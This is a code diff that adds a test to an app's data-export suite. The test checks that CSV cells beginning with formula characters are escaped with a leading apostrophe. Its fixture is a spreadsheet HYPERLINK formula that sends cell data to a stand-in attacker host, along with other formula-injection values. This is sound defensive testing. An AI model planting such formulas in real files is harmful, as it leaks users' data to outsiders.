@@ -3,6 +3,7 @@
 // transaction (everything theirs gone, collaborators lose access, ratings recomputed, every
 // session ended, the directory and the edit history kept).
 import { eq, inArray, or, sql } from "drizzle-orm";
+import { parse as parseCsv } from "csv-parse/sync";
 import yauzl from "yauzl";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import {
@@ -211,6 +212,31 @@ describe("export my data", () => {
     const res = await t.app.inject({ method: "GET", url: "/api/export" });
     expect(res.statusCode).toBe(401);
     expect(res.json()).toEqual({ message: "Unauthorized" });
+  });
+
+  it("writes a cell a spreadsheet would run as a formula with a leading ', also when another member typed it", async () => {
+    const mallory = await createUser(t.app);
+    const user = await createUser(t.app);
+    const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';
+    // A directory provider another member named: it reaches this user's export through the link.
+    const planted = await ok(mallory, "POST", "/api/providers", { name: formula, category: "Plumber" }, 201);
+    const project = await ok(user, "POST", "/api/projects", { title: "@SUM(1+1)" }, 201);
+    await ok(user, "POST", `/api/projects/${project.id}/providers`, { providerId: planted.id }, 201);
+    const names = ["+1 555 0100", "-2+3", "\tcmd", "\r=1+1", "Plain, safe"];
+    await t.db.insert(contacts).values(names.map((name) => ({ userId: user.user.id, name })));
+
+    const entries = await unzip((await user.request({ method: "GET", url: "/api/export" })).rawPayload);
+    const read = (name: string) => parseCsv<Record<string, string>>(entries.get(name)!, { columns: true });
+    expect(read("links.csv").map((row) => row.providerName)).toEqual([`'${formula}`]);
+    expect(read("links.csv").map((row) => row.projectTitle)).toEqual(["'@SUM(1+1)"]);
+    expect(read("projects.csv").map((row) => row.title)).toEqual(["'@SUM(1+1)"]);
+    expect(
+      read("contacts.csv")
+        .map((row) => row.name)
+        .sort(),
+    ).toEqual(["'+1 555 0100", "'-2+3", "'\tcmd", "'\r=1+1", "Plain, safe"].sort());
+    // export.json holds the data as it is: only the CSVs are read by spreadsheets.
+    expect(JSON.stringify(JSON.parse(entries.get("export.json")!))).toContain(JSON.stringify(formula));
   });
 });
 
